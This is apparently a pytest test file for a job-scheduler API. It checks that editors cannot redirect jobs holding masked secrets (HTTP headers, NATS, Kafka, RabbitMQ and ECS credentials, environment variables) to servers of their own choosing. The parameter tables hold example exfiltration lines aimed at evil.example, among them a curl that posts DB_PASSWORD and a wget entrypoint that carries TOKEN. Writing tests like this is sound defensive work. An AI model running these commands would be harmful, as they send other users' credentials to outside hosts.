"""A kept secret follows its destination: an editor who sends back a masked secret while
changing where it goes (a URL, a broker, a region, the command that gets the env) gets a 400
naming the secret to resend, and nothing is stored, so another user's secret never reaches a
server the editor chose (issue 12, finding 1)."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from agent.runner import run_execution
from jobs.models import Execution, Job
from jobs.services.runs import run_now
from tests.factories import agent
from tests.notifications.receivers import WebhookReceiver
from tests.web.api.helpers import client_for, job_body, make_user
from tests.web.api.roles import principal

TOKEN = "Bearer owners-t0ken-123"


@pytest.fixture
def owner_server() -> Iterator[WebhookReceiver]:
    server = WebhookReceiver()
    yield server
    server.stop()


@pytest.fixture
def attacker_server() -> Iterator[WebhookReceiver]:
    server = WebhookReceiver()
    yield server
    server.stop()


def refused(client: Any, body: dict[str, Any]) -> dict[str, Any]:
    response = client.post("/v1/jobs", body, format="json")
    assert response.status_code == 400, response.content
    return response.json()


def run(name: str) -> Execution:
    run_now(job=Job.objects.get(name=name))
    execution = Execution.objects.filter(job_name=name).latest("pk")
    run_execution(execution.pk, node_name="n1")
    execution.refresh_from_db()
    return execution


def test_an_editor_cannot_send_the_owners_http_header_to_a_server_of_their_own(
    transactional_db, api, owner_server, attacker_server
):
    agent("n1")
    config = {"method": "GET", "url": owner_server.url, "headers": [f"Authorization: {TOKEN}"]}
    assert api.post("/v1/jobs", job_body("ping", executor="http", executor_config=config),
                    format="json").status_code == 201  # fmt: skip
    stored = Job.objects.get(name="ping").executor_config
    # An editor's permissions, granted directly: transactional tests flush the role groups.
    editor = client_for(make_user("editor", "view_job", "add_job", "change_job"))

    body = editor.get("/v1/jobs/ping").json()
    body["executor_config"]["url"] = attacker_server.url  # the header stays "********"
    answer = refused(editor, body)

    assert answer["error"] == "Job validation failed: resend headers Authorization: url changed."
    assert Job.objects.get(name="ping").executor_config == stored
    assert run("ping").status == "success"
    assert attacker_server.requests == []
    assert owner_server.requests[0].headers["Authorization"] == TOKEN


class FakeNats:
    """Speaks just enough NATS to learn what a client logs in with: INFO, then one CONNECT."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.connects: list[str] = []
        threading.Thread(target=self._serve, daemon=True).start()

    @property
    def url(self) -> str:
        return f"nats://127.0.0.1:{self.sock.getsockname()[1]}"

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.sendall(b'INFO {"server_id":"x","version":"2.10.0","max_payload":1048576,'
                             b'"auth_required":true}\r\n')  # fmt: skip
                self.connects.append(conn.recv(65536).decode(errors="replace"))


def test_an_editor_cannot_send_the_owners_nats_password_to_a_fake_server(api):
    fake = FakeNats()
    config = {"url": "nats://127.0.0.1:4222", "subject": "s", "userName": "owner",
              "password": "owners-nats-pw"}  # fmt: skip
    api.post("/v1/jobs", job_body("pub", executor="nats", executor_config=config), format="json")
    stored = Job.objects.get(name="pub").executor_config
    _, editor, _ = principal("editor")

    body = editor.get("/v1/jobs/pub").json()
    body["executor_config"]["url"] = fake.url
    answer = refused(editor, body)

    assert answer["error"] == "Job validation failed: resend password: url changed."
    assert answer["details"] == {"executor_config": {"password": "resend password: url changed"}}
    assert Job.objects.get(name="pub").executor_config == stored
    assert fake.connects == []
    fake.sock.close()


# executor, stored config, the editor's change, the secret named, the destination named.
RETARGETED = [
    (
        "http",
        {"method": "GET", "url": "http://a.example/", "headers": ["X-Key: k-1234"]},
        {"tlsNoVerifyPeer": "true"},
        "headers X-Key",
        "tlsNoVerifyPeer",
    ),
    (
        "kafka",
        {
            "brokerAddress": "a.example:9092",
            "topic": "t",
            "saslUsername": "u",
            "saslPassword": "kafka-pw-1",
            "saslMechanism": "sha256",
        },
        {"brokerAddress": "evil.example:9092"},
        "saslPassword",
        "brokerAddress",
    ),
    (
        "kafka",
        {
            "brokerAddress": "a.example:9092",
            "topic": "t",
            "saslUsername": "u",
            "saslPassword": "kafka-pw-1",
            "saslMechanism": "sha256",
        },
        {"brokerAddress": None, "broker_address": "evil:9092"},
        "saslPassword",
        "brokerAddress",
    ),
    (
        "rabbitmq",
        {"url": "amqp://u:rabbit-pw-1@a.example:5672/v", "queue.name": "q", "message.body": "b"},
        {"url": "amqp://u:********@evil.example:5672/v"},
        "url password",
        "url",
    ),
    (
        "grpc",
        {"url": "a.example:50051/p.S/M", "headers": {"authorization": "Bearer g-1234"}},
        {"url": "evil.example:50051/p.S/M"},
        "headers authorization",
        "url",
    ),
    (
        "http",
        {"method": "GET", "url": "http://a.example/", "headers": ["X-Key: k-1234"]},
        {"executor": "grpc", "url": "evil.example:1/p.S/M", "method": None},
        "headers X-Key",
        "executor",
    ),
]
RETARGETED_CODE = [
    ("shell", {"command": "/usr/local/bin/backup", "env": "DB_PASSWORD=db-pw-123"},
     {"command": "curl -d $DB_PASSWORD http://evil.example/"}, "env DB_PASSWORD", "command"),
    ("shell", {"command": "echo $TOKEN", "env": "TOKEN=shell-t0k"},
     {"shell": "true"}, "env TOKEN", "shell"),
    ("docker", {"image": "backup:1", "env": {"TOKEN": "docker-t0k"}},
     {"image": "evil/exfiltrate:latest"}, "env TOKEN", "image"),
    ("docker", {"image": "backup:1", "env": {"TOKEN": "docker-t0k"}},
     {"entrypoint": "sh -c 'wget evil.example/$TOKEN'"}, "env TOKEN", "entrypoint"),
    ("ecs", {"taskdefName": "backup", "region": "eu-west-1", "env": "TOKEN=ecs-t0k"},
     {"endpointUrl": "http://evil.example/"}, "env TOKEN", "endpointUrl"),
    ("ecs", {"taskdefName": "backup", "region": "eu-west-1", "env": "TOKEN=ecs-t0k"},
     {"region": "us-east-1"}, "env TOKEN", "region"),
    ("ecs", {"taskdefName": "backup", "cluster": "prod", "env": "TOKEN=ecs-t0k"},
     {"taskdefName": "evil"}, "env TOKEN", "taskdefName"),
    ("ecs", {"taskdefName": "backup", "cluster": "prod", "env": "TOKEN=ecs-t0k"},
     {"cluster": "mine"}, "env TOKEN", "cluster"),
]  # fmt: skip


def retarget(who: str, executor: str, config: dict, change: dict, secret: str, dest: str):
    _, owner, _ = principal("superuser")
    created = owner.post(
        "/v1/jobs", job_body("job", executor=executor, executor_config=config), format="json"
    )
    assert created.status_code == 201, created.content
    stored = Job.objects.get(name="job").executor_config
    _, editor, _ = principal(who)

    body = editor.get("/v1/jobs/job").json()
    change = dict(change)
    body["executor"] = change.pop("executor", body["executor"])
    body["executor_config"].update(change)
    body["executor_config"] = {k: v for k, v in body["executor_config"].items() if v is not None}
    answer = refused(editor, body)

    assert answer["error"] == f"Job validation failed: resend {secret}: {dest} changed."
    assert Job.objects.get(name="job").executor_config == stored


@pytest.mark.django_db
@pytest.mark.parametrize(("executor", "config", "change", "secret", "dest"), RETARGETED)
def test_a_masked_secret_is_not_kept_when_its_destination_changes(
    executor, config, change, secret, dest
):
    retarget("editor", executor, config, change, secret, dest)


@pytest.mark.django_db
@pytest.mark.parametrize(("executor", "config", "change", "secret", "dest"), RETARGETED_CODE)
def test_an_env_secret_is_not_kept_when_the_code_that_receives_it_changes(
    executor, config, change, secret, dest
):
    retarget("editor+run_code_jobs", executor, config, change, secret, dest)


@pytest.mark.django_db
def test_resending_the_secret_with_the_new_destination_is_accepted():
    _, editor, _ = principal("editor")
    config = {"brokerAddress": "a:9092", "topic": "t", "saslUsername": "u",
              "saslPassword": "kafka-pw-1", "saslMechanism": "plain"}  # fmt: skip
    editor.post("/v1/jobs", job_body("job", executor="kafka", executor_config=config),
                format="json")  # fmt: skip
    body = editor.get("/v1/jobs/job").json()
    body["executor_config"].update(brokerAddress="b.example:9092", saslPassword="kafka-pw-2")

    assert editor.post("/v1/jobs", body, format="json").status_code in (200, 201)
    assert Job.objects.get(name="job").executor_config["saslPassword"] == "kafka-pw-2"


@pytest.mark.django_db
def test_other_changes_keep_the_masked_secrets():
    _, editor, _ = principal("editor")
    config = {"brokerAddress": "a:9092", "topic": "t", "saslUsername": "u",
              "saslPassword": "kafka-pw-1", "saslMechanism": "plain"}  # fmt: skip
    editor.post("/v1/jobs", job_body("job", executor="kafka", executor_config=config),
                format="json")  # fmt: skip
    body = editor.get("/v1/jobs/job").json()
    body["executor_config"]["topic"] = "other"

    assert editor.post("/v1/jobs", body, format="json").status_code in (200, 201)
    assert Job.objects.get(name="job").executor_config["saslPassword"] == "kafka-pw-1"


@pytest.mark.django_db
def test_an_editor_cannot_send_the_owners_webhook_header_to_another_url():
    _, owner, _ = principal("superuser")
    hook = {"url": "https://hooks.example.com/T1/secret-path", "headers": {"X-Key": "hook-key"}}
    owner.post("/v1/jobs", job_body("job", notify={"webhooks": [hook]}), format="json")
    stored = Job.objects.get(name="job").notify
    _, editor, _ = principal("editor")

    body = editor.get("/v1/jobs/job").json()
    body["notify"]["webhooks"][0]["url"] = "https://evil.example/collect"
    answer = refused(editor, body)

    assert answer["error"] == (
        "Job validation failed: resend webhooks.0.headers X-Key: webhooks.0.url changed."
    )
    assert Job.objects.get(name="job").notify == stored
